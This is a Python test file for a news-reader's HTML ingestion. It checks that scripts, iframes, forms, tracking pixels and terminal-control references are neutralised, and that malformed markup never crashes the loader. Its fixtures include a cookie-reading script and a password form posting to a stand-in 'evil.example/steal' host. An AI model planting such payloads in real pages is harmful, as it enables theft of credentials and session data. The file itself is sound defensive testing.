"""Hostile and broken HTML: active content never reaches the text, a character reference
to a control cannot hide the article, a page without an article says so, malformed markup
never crashes the loader."""

from __future__ import annotations

from pathlib import Path

import pytest

from reader.ingest import load_sources
from reader.ingest.extract_html import neutralise_control_references
from reader.model import Source
from tests.hostile.conftest import HOSTILE, run_cli

SENTENCE = (
    "<p>The Selkie ferry broke down on Tuesday, halting the crossing to the island, "
    "the operator said in a short statement to reporters.</p>"
)
ACTIVE = (
    "<html><head><title>Ferry halted</title><style>.x{color:red} STYLEMARK</style>"
    "<script>var SCRIPTMARK = document.cookie;</script></head><body><article>"
    "<h1>Ferry halted</h1>" + SENTENCE * 2 + "<iframe src='https://evil.example/IFRAMEMARK'>"
    "IFRAMEMARK</iframe><form action='https://evil.example/steal'><input type=password "
    "name=FORMMARK value=FORMMARK><button>FORMMARK log in</button></form>"
    "<img src='https://pixel.example/PIXELMARK.gif' width=1 height=1 alt=PIXELMARK>"
    "<svg><script>alert('SVGMARK')</script></svg><noscript>NOSCRIPTMARK</noscript>"
    "<template>TEMPLATEMARK</template>" + SENTENCE + "</article></body></html>"
)
MARKS = ("STYLE", "SCRIPT", "IFRAME", "FORM", "PIXEL", "SVG", "NOSCRIPT", "TEMPLATE")


def load_page(tmp_path: Path, html: str) -> Source:
    page = tmp_path / "page.html"
    page.write_text(html, encoding="utf-8")
    result = load_sources([str(page)])
    assert result.errors == ()
    return result.sources[0]


def test_scripts_styles_iframes_forms_and_pixels_never_reach_the_text(tmp_path: Path) -> None:
    text = load_page(tmp_path, ACTIVE).text
    assert "Selkie ferry broke down" in text
    assert [m for m in MARKS if f"{m}MARK" in text] == []


def test_the_hostile_page_keeps_no_trace_of_its_active_content() -> None:
    (source,) = load_sources([str(HOSTILE / "kerrow-post.html")]).sources
    for trace in ("alert", "evil.example", "password", "pixel.example", "cookie", "Log in"):
        assert trace not in source.text


def test_a_control_reference_no_longer_hides_the_article_and_stays_visible() -> None:
    result = load_sources([str(HOSTILE / "kerrow-post.html")])
    assert result.errors == ()
    (source,) = result.sources
    assert len(source.paragraphs) == 4
    assert "school hall\u241b[2J" in source.paragraphs[2].text


@pytest.mark.parametrize(
    ("reference", "picture"),
    [
        ("&#27;", "\u241b"),
        ("&#x1b;", "\u241b"),
        ("&#X1B;", "\u241b"),
        ("&#0000027;", "\u241b"),
        ("&#27", "\u241b"),  # no semicolon: still a reference to HTML parsers
        ("&#7;", "\u2407"),
        ("&#1;", "\u2401"),
        ("&#x1F;", "\u241f"),
        ("&#11;", "\u240b"),
    ],
)
def test_every_spelling_of_a_control_reference_is_shown_as_its_picture(
    tmp_path: Path, reference: str, picture: str
) -> None:
    html = "<html><body><article>" + SENTENCE.replace("Tuesday", f"Tues{reference}day") * 3
    assert f"Tues{picture}day" in load_page(tmp_path, html).text


def test_references_to_text_and_whitespace_are_left_to_the_parser() -> None:
    html = "a&#9;b&#10;c&#13;d&#32;e&#65;f&#x2603;g&#0;h&#8238;i"
    assert neutralise_control_references(html) == html


def test_a_page_without_an_article_is_one_clear_line(
    tmp_path: Path, good: str, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "menu.html"
    page.write_text(
        "<html><body><nav><a href='/'>Home</a> <a href='/news'>News</a></nav>"
        "<script>var a = 1;</script></body></html>"
    )
    run = run_cli(capsys, "report", good, str(page))
    assert run.code == 1
    (line,) = run.err.splitlines()
    assert str(page) in line and "no article text" in line
    assert len(run.json()["sources"]) == 1


MALFORMED = {
    "unclosed tags": "<html><body><article><h1>Ferry halted<p>" + SENTENCE[:-4] * 3,
    "stray brackets and closers": "<html><body><<<>>><p>>>"
    + SENTENCE
    + "</div></span><p "
    + SENTENCE,
    "cut mid-tag": "<html><body><article>" + SENTENCE * 3 + '<p class="x',
    "20000 nested divs": "<html><body>" + "<div>" * 20000 + SENTENCE * 3 + "</div>" * 20000,
    "50000 unclosed bold": "<html><body>" + "<b>" * 50000 + SENTENCE * 3,
    "comment never closed": "<html><body>" + SENTENCE * 3 + "<!-- never closed " + SENTENCE,
    "CDATA in HTML": "<html><body><![CDATA[" + SENTENCE * 3 + "]]>" + SENTENCE,
    "unknown charset": '<html><head><meta charset="no-such-charset"></head><body>' + SENTENCE * 3,
    "lying XML declaration": '<?xml version="1.0" encoding="utf-16"?><html><body>' + SENTENCE * 3,
    "NUL and out-of-range references": "<html><body>"
    + SENTENCE.replace("Tuesday", "Tu&#0;es&#99999999999999999999;d&#xD800;ay") * 3,
    "frameset only": "<html><frameset><frame src=a.html></frameset></html>",
    "empty document": "<html></html>",
}


@pytest.mark.parametrize("html", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_markup_loads_or_gives_a_reason_never_a_crash(tmp_path: Path, html: str) -> None:
    page = tmp_path / "broken.html"
    page.write_text(html, encoding="utf-8")
    result = load_sources([str(page)])
    if result.errors:
        (error,) = result.errors
        assert "could not be read (" not in error.reason  # the catch-all for a bug
        assert "no article text" in error.reason
    else:
        (source,) = result.sources
        assert "Selkie ferry broke down" in source.text
        for p in source.paragraphs:
            assert source.text[p.start : p.end] == p.text
